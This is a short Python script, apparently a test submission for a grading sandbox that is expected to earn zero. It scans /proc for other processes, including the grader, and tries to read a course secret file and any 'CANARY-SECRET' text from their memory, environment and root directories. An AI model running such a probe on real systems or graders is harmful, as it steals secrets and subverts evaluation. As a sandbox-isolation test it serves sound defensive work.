"""Looks into the memory of other processes, the zygote and the grader among them.

earns: 0
"""

# %%
import os

for name in sorted(os.listdir("/proc")):
    if name.isdigit() and int(name) != os.getpid():
        for part in ("mem", "maps", "root", "cwd", "fd", "environ", "map_files"):
            try:
                path = f"/proc/{name}/{part}"
                if part in ("root", "cwd", "fd", "map_files"):
                    print(name, part, os.listdir(path)[:3])
                    print(
                        "LO" + "OT",
                        open(f"{path}/@COURSE@/.course/secret", "rb").read(),
                    )
                else:
                    text = open(path, "rb").read(10_000)
                    if b"CANARY-" + b"SECRET" in text:
                        print("LO" + "OT", text)
            except OSError:
                pass
